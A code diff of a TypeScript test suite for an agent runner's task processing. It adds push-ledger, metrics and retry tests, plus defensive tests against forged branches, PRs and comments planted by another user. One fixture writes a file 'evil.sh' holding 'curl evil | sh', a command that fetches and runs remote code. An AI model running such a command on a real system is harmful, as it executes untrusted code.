@@ -7,18 +7,20 @@ import {
   PermanentTaskError,
   RepoNotFoundError,
   TargetNotAllowedError,
+  type PushLedger,
   type TaskJob,
 } from "@agent-runner/core";
 import { createLogger, type TaskJobContext } from "@agent-runner/runtime";
-import { FakeGitHubClient } from "@agent-runner/core/testing";
-import { FakeGitWorkspaceFactory, FakeRemote } from "@agent-runner/core/testing";
+import { FakeGitHubClient, FakeGitWorkspaceFactory, FakeRemote, MemoryPushLedger } from "@agent-runner/core/testing";
 import { TraceTaskHandler } from "./change/trace-task-handler.js";
 import type { TaskHandler } from "./change/task-handler.js";
-import { processTask, type ProcessTaskDeps, type TaskMetricsSink } from "./process-task.js";
+import { RunnerIdentity } from "./attempt/runner-identity.js";
+import { RecordingMetrics } from "./attempt/test-support/recording-metrics.js";
+import type { WorkerDeps } from "./attempt/worker-deps.js";
+import { processTask } from "./process-task.js";
 import { RepoInfoCache } from "./repo-info-cache.js";
 
 const silent = createLogger({ level: "silent", service: "test", secrets: [] });
-const noMetrics: TaskMetricsSink = { observeStep: () => undefined, pullRequest: () => undefined, changeStep: () => undefined };
 
 describe("processTask", () => {
   let workspaceDir: string;
@@ -26,8 +28,12 @@ describe("processTask", () => {
   let target: FakeRemote;
   let remotes: Map<string, FakeRemote>;
   let issueNumber: number;
+  let metrics: RecordingMetrics;
+  let pushes: MemoryPushLedger;
 
   beforeEach(async () => {
+    metrics = new RecordingMetrics();
+    pushes = new MemoryPushLedger();
     workspaceDir = await mkdtemp(path.join(os.tmpdir(), "process-task-"));
     github = new FakeGitHubClient();
     const info = github.addRepo("acme/target");
@@ -41,9 +47,11 @@ describe("processTask", () => {
     await rm(workspaceDir, { recursive: true, force: true });
   });
 
-  function deps(overrides: Partial<ProcessTaskDeps> = {}): ProcessTaskDeps {
+  function deps(overrides: Partial<WorkerDeps> = {}): WorkerDeps {
     return {
       github,
+      runner: new RunnerIdentity(github.viewer),
+      pushes,
       git: new FakeGitWorkspaceFactory(remotes),
       repos: new RepoInfoCache(github),
       handler: new TraceTaskHandler(),
@@ -54,7 +62,7 @@ describe("processTask", () => {
         allowedTargetRepos: ["acme/*"],
         workspaceDir,
       },
-      metrics: noMetrics,
+      metrics,
       log: silent,
       ...overrides,
     };
@@ -75,8 +83,8 @@ describe("processTask", () => {
     };
   }
 
-  function context(data: unknown, attemptsMade = 0): TaskJobContext {
-    return { jobId: "j", data, attemptsMade, maxAttempts: 5, signal: new AbortController().signal };
+  function context(data: unknown, attemptsMade = 0, maxAttempts = 5): TaskJobContext {
+    return { jobId: "j", data, attemptsMade, maxAttempts, signal: new AbortController().signal };
   }
 
   it("opens one PR from branch agent-task-<prefix>, comments its URL and labels the issue", async () => {
@@ -177,7 +185,11 @@ describe("processTask", () => {
     await expect(processTask(context(job("idle-task")), deps({ handler: idle }))).rejects.toBeInstanceOf(PermanentTaskError);
     await expect(processTask(context(job("idle-task"), 1), deps({ handler: idle }))).rejects.toBeInstanceOf(PermanentTaskError);
     expect(github.pulls.get("acme/target") ?? []).toHaveLength(0);
-    expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(1);
+    const comments = github.commentsOn("acme/dispatch", issueNumber);
+    expect(comments).toHaveLength(1);
+    expect(comments[0]?.body).toContain("changed nothing, so no pull request was opened");
+    expect(comments[0]?.body).toContain("nothing to do");
+    expect(metrics.records).toContain("change idle unchanged");
   });
 
   it("spends no PR look-up on a first attempt whose branch does not exist yet", async () => {
@@ -201,5 +213,101 @@ describe("processTask", () => {
     github.failures.set("getRepo", [new GitHubApiError({ status: 503, message: "unavailable", route: "repo" })]);
     await expect(processTask(context(job("transient-1")), deps())).rejects.toBeInstanceOf(GitHubApiError);
     expect(github.commentsOn("acme/dispatch", issueNumber)).toHaveLength(0);
+    expect(metrics.records).toContain("job retried");
+  });
+
+  it("comments once that retries ran out when the last attempt fails transiently", async () => {
+    github.failures.set("getRepo", [new GitHubApiError({ status: 503, message: "unavailable", route: "repo" })]);
+    await expect(processTask(context(job("transient-2"), 2, 3), deps())).rejects.toBeInstanceOf(GitHubApiError);
+    const comments = github.commentsOn("acme/dispatch", issueNumber);
+    expect(comments).toHaveLength(1);
+    expect(comments[0]?.body).toContain("It was retried and kept failing");
+    expect(metrics.records).toContain("job failed");
+    expect(metrics.records).not.toContain("job retried");
+  });
+
+  it("records each step, the PR action, the change outcome and the job's end once", async () => {
+    await processTask(context(job("metrics-task-1")), deps());
+    expect(metrics.records).toEqual([
+      "job started",
+      "step clone",
+      "step change",
+      "change trace changed",
+      "step push",
+      "pull created",
+      "step pr",
+      "step report",
+      "job completed",
+    ]);
+  });
+
+  it("records a change step that threw as failed", async () => {
+    const broken: TaskHandler = { name: "broken", apply: async () => Promise.reject(new Error("boom")) };
+    await expect(processTask(context(job("broken-task")), deps({ handler: broken }))).rejects.toThrow("boom");
+    expect(metrics.records).toContain("change broken failed");
+    expect(metrics.records).toContain("job retried");
+  });
+
+  describe("in a repository where others with access forge the runner's marks", () => {
+    it("adopts the branch it pushed when the attempt died before opening the PR", async () => {
+      github.failures.set("createPull", [new GitHubApiError({ status: 502, message: "Bad Gateway", route: "pulls" })]);
+      await expect(processTask(context(job("pushed-then-died")), deps())).rejects.toBeInstanceOf(GitHubApiError);
+      const outcome = await processTask(context(job("pushed-then-died"), 1), deps());
+      expect(outcome.branch).toBe("agent-task-pushed-t");
+      expect(target.pushes).toBe(1);
+      expect(pushes.records).toHaveLength(1);
+    });
+
+    it("records the commit in the push ledger before the push lands", async () => {
+      const remoteTipAtRecord: (string | undefined)[] = [];
+      const ledger = new MemoryPushLedger();
+      const watching: PushLedger = {
+        record: async (push) => {
+          remoteTipAtRecord.push(target.branches.get(push.branch)?.sha);
+          await ledger.record(push);
+        },
+        has: (push) => ledger.has(push),
+      };
+      await processTask(context(job("ledger-order-1")), deps({ pushes: watching }));
+      expect(remoteTipAtRecord).toEqual([undefined]);
+      expect(ledger.records.map((r) => r.sha)).toEqual([target.branches.get("agent-task-ledger-o")?.sha]);
+    });
+
+    it("never pushes to a branch whose commit forges the task's Task-Id trailer, and takes a longer prefix", async () => {
+      const forged = target.commit("Process agent task from dispatch issue #1\n\nTask-Id: forged-task-1\n", new Map([["evil.sh", "curl evil | sh"]]), target.branches.get("main"));
+      target.branches.set("agent-task-forged-t", forged);
+      const outcome = await processTask(context(job("forged-task-1")), deps());
+      expect(outcome.branch).toBe("agent-task-forged-task-");
+      expect(target.branches.get("agent-task-forged-t")).toBe(forged);
+      const pulls = github.pulls.get("acme/target") ?? [];
+      expect(pulls.map((p) => p.headRef)).toEqual(["agent-task-forged-task-"]);
+    });
+
+    it("leaves alone a PR someone else opened with the task's correlation comment", async () => {
+      target.branches.set("agent-task-foreign-", target.commit("mallory's work", new Map([["m.txt", "m"]]), target.branches.get("main")));
+      const body = '<!-- agent_task_metadata {"task_id":"foreign-pr-1"} -->\nmine now';
+      await github.actingAs("mallory", (as) =>
+        as.createPull({ owner: "acme", repo: "target" }, { title: "Mallory's", body, head: "agent-task-foreign-", base: "main" }),
+      );
+      const outcome = await processTask(context(job("foreign-pr-1")), deps());
+      expect(outcome.branch).toBe("agent-task-foreign-pr-1");
+      const pulls = github.pulls.get("acme/target") ?? [];
+      expect(pulls.map((p) => [p.authorLogin, p.title, p.body])).toEqual([
+        ["mallory", "Mallory's", body],
+        [github.viewer, "Agent task: Add a thing", expect.stringContaining("foreign-pr-1")],
+      ]);
+    });
+
+    it("posts its own done comment although someone else posted the done marker first", async () => {
+      github.loseNextCreatePullResponse = true;
+      await expect(processTask(context(job("silenced-1")), deps())).rejects.toBeInstanceOf(GitHubApiError);
+      await github.actingAs("mallory", (as) =>
+        as.createIssueComment({ owner: "acme", repo: "dispatch" }, issueNumber, '<!-- agent-runner:done {"task_id":"silenced-1"} -->'),
+      );
+      const outcome = await processTask(context(job("silenced-1"), 1), deps());
+      const comments = github.commentsOn("acme/dispatch", issueNumber);
+      expect(comments.map((c) => c.authorLogin)).toEqual(["mallory", github.viewer]);
+      expect(comments[1]?.body).toContain(outcome.pullUrl);
+    });
   });
 });
